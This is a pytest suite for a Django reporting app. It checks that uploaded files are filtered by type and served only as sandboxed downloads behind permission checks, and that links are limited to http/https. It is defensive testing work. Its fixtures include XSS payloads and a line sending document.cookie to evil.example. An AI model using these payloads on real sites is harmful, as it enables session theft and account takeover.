"""A report's attached file and links (issue 18, findings 1, 2 and 3): uploads typed by content and stored
under random names, served only through the permission-checked view as a download, links http/https only."""

import pytest
from django.core.files.base import ContentFile
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import Resolver404, resolve, reverse

from kelisim.activities.models import ActivityReport, ReportStatus
from kelisim.activities.tests.factories import OrganisationFactory, ReportFactory, member_of, staff_officer
from kelisim.activities.tests.test_views_reports import _form_data
from kelisim.core.tests.factories import StrandFactory

pytestmark = pytest.mark.django_db

PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
HOSTILE_FILES = {
    "page.html": b"<html><script>fetch('/en/consultation/triage/')</script></html>",
    "page.pdf": b"<!doctype html><script>alert(document.cookie)</script>",
    "drawing.png": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>',
    "steal.js": b"document.location='https://evil.example/?'+document.cookie",
    "big.pdf": b"%PDF-1.4\n" + b"0" * (10 * 1024 * 1024 + 1),
}


def _post_report(client, organisation, **fields):
    data = _form_data(
        StrandFactory(code="youth"),
        "KZ-33",
        activity_type="meeting",
        title="Meeting in a college",
        venue_type="college",
        **fields,
    )
    return client.post(reverse("activities:report_create", args=[organisation.pk]), data)


@pytest.mark.parametrize("name", sorted(HOSTILE_FILES))
def test_the_report_form_refuses_files_that_are_not_documents(client, name):
    organisation = OrganisationFactory()
    client.force_login(member_of(organisation))
    response = _post_report(client, organisation, material_file=SimpleUploadedFile(name, HOSTILE_FILES[name]))
    assert response.status_code == 200
    page = response.content.decode()
    assert name in page and ("not one of the accepted kinds" in page or "larger than 10 MB" in page)
    assert not ActivityReport.objects.exists()


def test_a_draft_reports_file_is_stored_under_a_random_name_and_only_its_organisation_gets_it(client):
    organisation = OrganisationFactory()
    member = member_of(organisation)
    client.force_login(member)
    response = _post_report(client, organisation, material_file=SimpleUploadedFile("programme.pdf", PDF))
    assert response.status_code == 302
    report = ActivityReport.objects.get()
    assert report.status == ReportStatus.DRAFT and report.material_file_name == "programme.pdf"
    assert "programme" not in report.material_file.name and not report.material_file.name.endswith(".pdf")
    address = reverse("activities:report_file", args=[report.pk])

    response = client.get(address)
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"] == 'attachment; filename="programme.pdf"'
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Security-Policy"] == "sandbox; default-src 'none'"
    assert b"".join(response.streaming_content) == PDF

    client.logout()
    assert client.get(address).status_code == 404
    client.force_login(member_of(OrganisationFactory()))
    assert client.get(address).status_code == 404
    client.force_login(staff_officer())
    assert client.get(address).status_code == 200


def test_no_public_media_address_serves_uploads(client):
    report = ReportFactory(material_file=ContentFile(PDF, name="x.pdf"))
    with pytest.raises(Resolver404):
        resolve(f"/media/{report.material_file.name}")
    assert client.get(f"/media/{report.material_file.name}").status_code == 404


def test_a_file_stored_before_the_policy_still_downloads_but_never_as_a_page(client):
    stored = default_storage.save("activities/2025/11/officer-trap.html", ContentFile(HOSTILE_FILES["page.html"]))
    report = ReportFactory(status=ReportStatus.VERIFIED, material_file=stored, material_file_name="officer-trap.html")
    response = client.get(reverse("activities:report_file", args=[report.pk]))
    assert response.status_code == 200
    assert response["Content-Type"] == "application/octet-stream"
    assert response["Content-Disposition"] == 'attachment; filename="officer-trap.html"'
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Security-Policy"] == "sandbox; default-src 'none'"


@pytest.mark.parametrize(
    "link",
    [
        "javascript:alert(document.cookie)",
        "JaVaScRiPt:alert(1)",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "vbscript:msgbox(1)",
        "ftp://files.example.kz/a",
        "//evil.example/x",
    ],
)
def test_the_report_form_takes_web_links_only(client, link):
    organisation = OrganisationFactory()
    client.force_login(member_of(organisation))
    response = _post_report(client, organisation, material_links=f"https://youtu.be/abc\n{link}")
    assert response.status_code == 200
    assert "is not a web address starting with http:// or https://." in response.content.decode()
    assert not ActivityReport.objects.exists()


def test_a_link_stored_before_the_check_is_shown_as_text_and_web_links_as_ugc(client):
    report = ReportFactory(
        status=ReportStatus.VERIFIED, material_links="https://youtu.be/abc\njavascript:alert(document.cookie)"
    )
    page = client.get(reverse("activities:report", args=[report.pk])).content.decode()
    assert '<a href="https://youtu.be/abc" rel="nofollow ugc noopener">https://youtu.be/abc</a>' in page
    assert 'href="javascript:' not in page
    assert "javascript:alert(document.cookie)" in page  # as text
